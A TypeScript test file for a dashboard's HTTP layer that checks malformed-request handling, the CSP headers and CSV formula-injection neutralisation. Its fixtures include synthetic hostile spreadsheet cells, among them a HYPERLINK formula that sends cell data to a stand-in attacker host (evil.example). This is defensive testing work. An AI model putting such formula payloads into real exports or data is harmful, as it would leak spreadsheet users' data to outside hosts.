/**
 * Issue 9 at the HTTP boundary: malformed percent-encoding is a 400 in the JSON shape with nothing logged as a
 * failure; Node's own 400/431 answers carry the same shape; CSV cells a spreadsheet would run are neutralised; the
 * page's Content-Security-Policy forbids inline script.
 */
import net from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../dashboard/app.ts';
import { capturingLogger } from '../support/log.ts';
import { tempDatabase } from '../support/tmp.ts';
import { serve } from './serve.ts';

let t: Awaited<ReturnType<typeof tempDatabase>>;
let server: Awaited<ReturnType<typeof serve>>;
const logLines: string[] = [];

beforeAll(async () => {
  t = await tempDatabase();
  await t.db.run('create schema if not exists marts');
  // SYNTHETIC hostile values, as any Hub user could name a repo or an upstream could send a slug.
  await t.db.run(
    `create table marts.hostile as
     select model_id::varchar as model_id, delta::bigint as delta, share::double as share
     from (values
       ('=HYPERLINK("http://evil.example/?x="&A1,"click")', -5, -0.25),
       ('+1+1', 3, 0.5),
       ('-2+3', null, null),
       ('@SUM(A1:A2)', 7, 0.1),
       (chr(9) || '=1', 1, 0.0),
       (chr(13) || '=1', 1, 0.0),
       ('Qwen/Qwen3-8B', -1, 1.0)
     ) v(model_id, delta, share)`,
  );
  const log = capturingLogger(logLines);
  const app = createApp({
    db: t.db,
    config: t.config,
    log,
    martNames: () => ['hostile'],
    bundle: async () => new Map(),
  });
  server = await serve(app);
});

afterAll(async () => {
  await server?.close();
  t?.cleanup();
});

/** Writes raw bytes to the server and returns everything it answers before closing. */
function rawRequest(text: string): Promise<string> {
  const { hostname, port } = new URL(server.url);
  return new Promise((resolve, reject) => {
    const socket = net.connect(Number(port), hostname, () => socket.write(text));
    let answer = '';
    socket.on('data', (d) => (answer += d));
    socket.on('end', () => resolve(answer));
    socket.on('error', reject);
  });
}

function bodyOf(answer: string): unknown {
  return JSON.parse(answer.slice(answer.indexOf('\r\n\r\n') + 4));
}

describe('malformed requests', () => {
  it.each(['/data/%zz.csv', '/data/%E0%A4%A.json', '/assets/%', '/data/hostile.csv%'])(
    'GET %s -> 400 in the JSON shape, nothing logged as a failure',
    async (path) => {
      const before = logLines.length;
      const res = await fetch(server.url + path);
      expect(res.status).toBe(400);
      expect(res.headers.get('content-type')).toBe('application/json; charset=utf-8');
      expect(await res.json()).toEqual({ ok: false, error: 'malformed percent-encoding in the path', status: 400 });
      expect(logLines.slice(before)).toEqual([]);
    },
  );

  it("headers past the limit get Node's 431 with the JSON shape", async () => {
    const answer = await rawRequest(`GET / HTTP/1.1\r\nHost: x\r\nX-Big: ${'a'.repeat(20_000)}\r\n\r\n`);
    expect(answer.split('\r\n')[0]).toBe('HTTP/1.1 431 Request Header Fields Too Large');
    expect(answer).toContain('Content-Type: application/json; charset=utf-8');
    expect(bodyOf(answer)).toEqual({
      ok: false,
      error: 'request header fields too large: at most 16384 bytes of headers',
      status: 431,
    });
  });

  it("a request Node cannot parse gets Node's 400 with the JSON shape", async () => {
    const answer = await rawRequest('NOT A REQUEST\r\n\r\n');
    expect(answer.split('\r\n')[0]).toBe('HTTP/1.1 400 Bad Request');
    expect(bodyOf(answer)).toEqual({ ok: false, error: 'bad request: the request could not be parsed', status: 400 });
  });
});

describe('CSV formula neutralisation', () => {
  it('/data/<mart>.csv gives text cells that would run a leading quote; numbers stay numbers', async () => {
    const res = await fetch(`${server.url}/data/hostile.csv?_sort=model_id`);
    expect(res.status).toBe(200);
    expect(await res.text()).toBe(
      [
        'model_id,delta,share',
        `'\t=1,1,0`,
        `"'\r=1",1,0`,
        `'+1+1,3,0.5`,
        `'-2+3,,`,
        `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-5,-0.25`,
        `'@SUM(A1:A2),7,0.1`,
        'Qwen/Qwen3-8B,-1,1',
        '',
      ].join('\n'),
    );
  });

  it('/data/<mart>.json keeps the values untouched (programs read JSON)', async () => {
    const res = await fetch(`${server.url}/data/hostile.json?_sort=model_id&_limit=3`);
    const body = (await res.json()) as { rows: Array<{ model_id: string }> };
    expect(body.rows.map((r) => r.model_id)).toEqual(['\t=1', '\r=1', '+1+1']);
  });
});

describe('Content-Security-Policy', () => {
  it('forbids inline script and script from anywhere but this origin', async () => {
    const res = await fetch(`${server.url}/nowhere`);
    const csp = res.headers.get('content-security-policy') ?? '';
    const directives = Object.fromEntries(
      csp
        .split(';')
        .map((d) => d.trim().split(/\s+/))
        .map(([k, ...v]) => [k, v]),
    );
    expect(directives['script-src']).toEqual(["'self'"]);
    expect(directives['script-src-attr']).toEqual(["'none'"]);
    expect(directives['object-src']).toEqual(["'none'"]);
  });
});

describe("the page's per-chart CSV (dashboard/web/csv.ts)", () => {
  it('neutralises formula text cells; numbers and booleans stay as they are', async () => {
    const { toCsv } = await import('../../dashboard/web/csv.ts');
    expect(
      toCsv({
        columns: ['model', 'tokens', 'share', 'new'],
        rows: [
          { model: '=HYPERLINK("http://evil.example","x")', tokens: -5, share: -0.5, new: true },
          { model: '@evil', tokens: 3, share: null, new: false },
          { model: 'qwen/qwen3-8b', tokens: 1, share: 0.25, new: false },
        ],
        comments: ['Source: test'],
      }),
    ).toBe(
      [
        '# Source: test',
        'model,tokens,share,new',
        `"'=HYPERLINK(""http://evil.example"",""x"")",-5,-0.5,true`,
        "'@evil,3,,false",
        'qwen/qwen3-8b,1,0.25,false',
        '',
      ].join('\n'),
    );
  });
});
